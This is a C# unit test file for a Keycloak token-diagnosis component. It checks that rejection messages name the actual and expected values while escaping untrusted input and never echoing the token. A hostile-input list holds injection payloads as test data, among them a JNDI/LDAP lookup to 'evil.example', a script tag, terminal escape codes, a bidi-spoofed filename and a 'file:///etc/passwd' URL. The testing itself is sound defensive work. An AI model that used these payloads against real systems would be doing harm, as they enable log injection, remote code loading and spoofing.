using Keycloak.ApiProtection.Tests.Realms;
using Keycloak.ApiProtection.Tokens;

namespace Keycloak.ApiProtection.Tests.Tokens;

public sealed class TokenDiagnosisTests
{
    public static TheoryData<string> HostileTexts =>
    [
        "\r\ninfo: Everything is fine",
        "\n\n\n",
        "it's 'quoted' \"twice\"",
        "\\u0027 \\",
        "\u001b[2J\u001b[31mred\u0007",
        "\u202Egnp.exe\u2066\u2069",
        "\u0000\u0001\u001F\u007F\u0080\u009B",
        "\u00E4\u00F6\u00FC \u4F60\u597D \uD83D\uDE00",
        "\u2028\u2029\u0085\uFEFF\u200B",
        "<script>alert(1)</script>",
        "{Code} {0} %s %n ${jndi:ldap://evil.example/a}",
        new string('x', 10_000),
        new string('\u00E9', 5_000),
        string.Concat(Enumerable.Repeat("\uD83D\uDE00", 1_500)),
        "http://[::1",
        "http://evil.example:99999/realms/demo",
        "http://\u0000/realms/demo",
        "file:///etc/passwd",
        "\\\\evil\\share",
        "http://xn--/realms/demo",
    ];

    [Fact]
    public async Task A_token_for_another_api_is_rejected_and_the_log_says_which_mapper_is_missing()
    {
        using var api = await OrdersApi.StartAsync();
        var rejection = await api.ExplainAsync(api.Token(KeycloakPayloads.NoAudience).Text);

        Assert.Equal("audience", rejection.Code);
        Assert.Equal("The token of client 'no-audience' has the audience 'account'; expected 'orders-api'.", rejection.Reason);
        Assert.Contains(
            "Add an audience mapper for 'orders-api' to a client scope of client 'no-audience'",
            rejection.Remedy,
            StringComparison.Ordinal);
        Assert.Contains("Included Client Audience 'orders-api'", rejection.Remedy, StringComparison.Ordinal);
        Assert.Contains("Clients > 'no-audience' > Client scopes", rejection.Remedy, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("order-api", "\"orders-api\"", "did you mean 'orders-api'?")]
    [InlineData("orders-api", "[\"account\",\"ordres-api\"]", "did you mean 'ordres-api'?")]
    [InlineData("orders-api", "\"shipping-api\"", null)]
    public async Task A_misspelled_client_id_of_this_api_is_mentioned_in_the_remedy(string expected, string audience, string? suggestion)
    {
        using var api = await OrdersApi.StartAsync(OrdersApi.Asking(audiences: [expected]));
        var rejection = await api.ExplainAsync(api.Alice.With("aud", audience).Text);

        Assert.Contains($"Add an audience mapper for '{expected}'", rejection.Remedy, StringComparison.Ordinal);
        Assert.Equal(suggestion is not null, rejection.Remedy.Contains("correct `resource`", StringComparison.Ordinal));
        Assert.EndsWith(suggestion ?? "Add client scope.", rejection.Remedy, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[]", "has no audience;")]
    [InlineData("[\"account\",\"gateway\"]", "has the audiences 'account', 'gateway';")]
    [InlineData("[\"1\",\"2\",\"3\",\"4\",\"5\",\"6\",\"7\",\"8\",\"9\",\"10\",\"11\"]", "'9', '10', ...;")]
    [InlineData("\"orders\\u002dap\\u0069 \"", "has the audience 'orders-api ';")]
    public async Task The_reason_lists_the_audiences_of_the_token_up_to_a_limit(string audience, string found)
    {
        using var api = await OrdersApi.StartAsync(OrdersApi.Asking(audiences: [OrdersApi.Audience, "billing"]));
        var rejection = await api.ExplainAsync(api.Alice.With("aud", audience).Text);

        Assert.Contains(found, rejection.Reason, StringComparison.Ordinal);
        Assert.EndsWith("; expected 'orders-api' or 'billing'.", rejection.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_rejection_is_explained_even_without_azp()
    {
        using var api = await OrdersApi.StartAsync();
        var rejection = await api.ExplainAsync(api.Alice.Without("aud", "azp").Text);

        Assert.StartsWith("The token of client (none) has no audience;", rejection.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("http://localhost:8080/realms/demo")]
    [InlineData("https://kc.example:8443/realms/demo")]
    [InlineData("http://kc.example/realms/demo")]
    public async Task The_same_realm_on_another_host_name_is_explained_with_the_settings_to_change(string issuer)
    {
        using var api = await OrdersApi.StartAsync();
        var rejection = await api.ExplainAsync(api.Alice.WithText("iss", issuer).Text);

        Assert.Equal($"The token was issued by '{issuer}'; expected '{RealmStub.Issuer}'.", rejection.Reason);
        Assert.Contains("ValidIssuers", rejection.Remedy, StringComparison.Ordinal);
        Assert.Contains("MetadataAddress", rejection.Remedy, StringComparison.Ordinal);
        Assert.Contains("hostname", rejection.Remedy, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_token_of_another_realm_is_reported_with_both_issuers()
    {
        using var api = await OrdersApi.StartAsync();
        var foreign = await api.ExplainAsync(api.Alice.WithText("iss", "https://kc.example/realms/master").Text);
        var none = await api.ExplainAsync(api.Alice.Without("iss").Text);

        Assert.Contains(
            "'https://kc.example/realms/master'; expected 'https://kc.example/realms/demo'", foreign.Reason, StringComparison.Ordinal);
        Assert.Equal(TokenRejection.Issuer.Remedy, foreign.Remedy);
        Assert.Contains("issued by (none)", none.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Times_are_reported_as_dates_and_as_elapsed_seconds()
    {
        using var api = await OrdersApi.StartAsync();

        Assert.Equal(
            "The token expired at 2026-11-21 11:00:00Z, 3600 s ago (ClockSkew 30 s).",
            (await api.ExplainAsync(api.Alice.WithDate("exp", api.Now.AddHours(-1)).Text)).Reason);
        Assert.Equal(
            "The token is not valid before 2026-11-21 12:01:00Z; the clock of this machine shows 2026-11-21 12:00:00Z.",
            (await api.ExplainAsync(api.Alice.WithDate("nbf", api.Now.AddMinutes(1)).Text)).Reason);
        Assert.Equal(
            "The token was issued at 2026-11-21 12:01:00Z; the clock of this machine shows 2026-11-21 12:00:00Z.",
            (await api.ExplainAsync(api.Alice.WithDate("iat", api.Now.AddMinutes(1)).Text)).Reason);
        Assert.Contains(
            "9999-12-31 23:59:59Z", (await api.ExplainAsync(api.Alice.With("nbf", "253402300799").Text)).Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Each_other_rejection_names_the_actual_and_the_expected_value()
    {
        using var api = await OrdersApi.StartAsync(OrdersApi.Asking(algorithms: ["RS256", "ES256", "PS256"]));

        Assert.Equal(
            "The 'typ' in the token's header is 'JWE'; expected JWT, at+jwt, application/at+jwt or no 'typ'.",
            await ReasonAsync(api.Alice.WithHeader("typ", "\"JWE\"")));
        Assert.Equal(
            "The token's algorithm is 'RS384'; allowed are RS256, ES256, PS256.",
            await ReasonAsync(api.Alice.WithHeader("alg", "\"RS384\"")));
        Assert.Equal(
            "The 'typ' in the token's payload is 'reset-credentials'; expected Bearer.",
            await ReasonAsync(api.Alice.WithText("typ", "reset-credentials")));
        Assert.Equal(
            "The token's payload is invalid: 'exp' is not a whole number of seconds in range.",
            await ReasonAsync(api.Alice.With("exp", "1.5")));
        Assert.Equal("The token's payload is invalid: it contains a member twice.", await ReasonAsync(api.Alice.And("\"x\":1,\"x\":1")));
        Assert.Equal("The token's header is invalid: 'alg' is missing or not a string.", await ReasonAsync(api.Alice.WithoutHeader("alg")));
        Assert.Equal("The token's header is invalid: it is not UTF-8.", await ReasonAsync(api.Alice.WithHeader([0xFF])));
        Assert.Equal(
            "The token's key 'nobody' is not one of the realm's keys.", await ReasonAsync(api.Alice.WithHeader("kid", "\"nobody\"")));
        Assert.Equal(
            $"The token's key '{OrdersApi.KeyId}' cannot be used with the algorithm 'PS256'.",
            await ReasonAsync(api.Alice.WithHeader("alg", "\"PS256\"")));
        Assert.Contains(
            "The token of client 'lightweight' is a lightweight access token.",
            await ReasonAsync(api.Token(KeycloakPayloads.Lightweight)),
            StringComparison.Ordinal);

        async Task<string> ReasonAsync(SignedToken token) => (await api.ExplainAsync(token.Text)).Reason;
    }

    [Fact]
    public async Task Size_and_form_are_reported_as_numbers_without_any_text_of_the_token()
    {
        using var api = await OrdersApi.StartAsync(OrdersApi.Asking(maximumSize: 100));

        Assert.Equal("The token has 101 characters; MaximumTokenSize is 100.", (await api.ExplainAsync(new string('x', 101))).Reason);
        Assert.StartsWith("The token has 1 part(s), 6 characters;", (await api.ExplainAsync("secret")).Reason, StringComparison.Ordinal);
        Assert.StartsWith("The token has 5 part(s), 9 characters;", (await api.ExplainAsync("a.b.c.d.e")).Reason, StringComparison.Ordinal);
        Assert.StartsWith(
            "The token has 3 part(s), 9 characters;", (await api.ExplainAsync("\u00E9bc.d.ef=")).Reason, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public async Task Untrusted_text_is_escaped_and_truncated_in_every_message(string hostile)
    {
        using var api = await OrdersApi.StartAsync();
        var json = SignedToken.Quoted(hostile);
        SignedToken[] tokens =
        [
            api.Alice.WithHeader("typ", json),
            api.Alice.WithHeader("alg", json),
            api.Alice.WithHeader("alg", RawJson(hostile)),
            api.Alice.WithHeader("kid", json),
            api.Alice.WithHeader("kid", RawJson(hostile)),
            api.Alice.With("iss", json),
            api.Alice.With("iss", RawJson(hostile)),
            api.Alice.With("typ", json),
            api.Alice.With("aud", json).With("azp", json),
            api.Alice
                .With("aud", $"[{string.Join(',', Enumerable.Repeat(SignedToken.Quoted(hostile[..Math.Min(500, hostile.Length)]), 12))}]")
                .With("azp", RawJson(hostile)),
            api.Token(KeycloakPayloads.Lightweight).With("azp", json),
        ];

        foreach (var token in tokens.Select(token => token.Text))
        {
            // The longest hostile texts also make tokens that are too long. For these, the messages contain only numbers.
            var rejection = await api.ExplainAsync(token);
            AssertHarmless(rejection.Reason, token);
            AssertHarmless(rejection.Remedy, token);
        }
    }

    [Fact]
    public async Task No_message_contains_the_token_or_its_signature()
    {
        using var api = await OrdersApi.StartAsync();
        var foreign = TestKey.Rsa("foreign", which: 1);
        var good = api.Alice.Text;
        string[] refused =
        [
            api.Alice.SignedBy(foreign).Text,
            api.Alice.With("exp", "1").Text,
            api.Alice.With("aud", "[]").Text,
            api.Alice.WithHeader("kid", "\"nobody\"").Text,
            good + ".",
            good + "=",
            good.Replace('.', ' '),
            "Bearer " + good,
            $"\"{good}\"",
            good + good + good + good + good + good + good + good + good + good + good,
        ];

        foreach (var token in refused)
        {
            var rejection = await api.ExplainAsync(token);
            AssertHarmless(rejection.Reason, token);
            AssertHarmless(rejection.Remedy, token);
        }
    }

    [Fact]
    public async Task Every_rejection_can_be_explained_for_any_token()
    {
        using var api = await OrdersApi.StartAsync();
        string[] tokens =
        [
            "", ".", "a.b.c", "\uD800", api.Alice.Text, api.Alice.WithHeader("[]").WithPayload("[]").Text,
            api.Alice.With("exp", "1e9").Text, new string('x', 100_000)
        ];

        foreach (var rejection in TokenRejection.All)
        {
            foreach (var token in tokens)
            {
                var explained = TokenDiagnosis.Explain(rejection, token, api.Policy, api.Now);
                Assert.Equal(rejection.Code, explained.Code);
                AssertHarmless(explained.Reason, token);
            }
        }
    }

    /// <summary>Writes the text as a JSON string in which only the characters are escaped that JSON requires to be escaped.</summary>
    private static string RawJson(string text) =>
        "\"" + string.Concat(
            text.Select(letter => letter < ' ' || letter is '"' or '\\' ? $"\\u{(int)letter:x4}" : letter.ToString())) + "\"";

    private static void AssertHarmless(string text, string token)
    {
        Assert.All(text, letter => Assert.InRange(letter, ' ', '~'));
        Assert.InRange(text.Length, 10, 8000);
        var parts = token.Split('.', ' ', '"', '=').Where(part => part.Length >= 16 && part.All(char.IsAscii));
        Assert.DoesNotContain(
            parts, part => part.Distinct().Count() > 4 && Windows(part).Any(window => text.Contains(window, StringComparison.Ordinal)));
    }

    private static IEnumerable<string> Windows(string part) =>
        Enumerable.Range(0, part.Length / 16).Select(number => part.Substring(16 * number, 16));
}
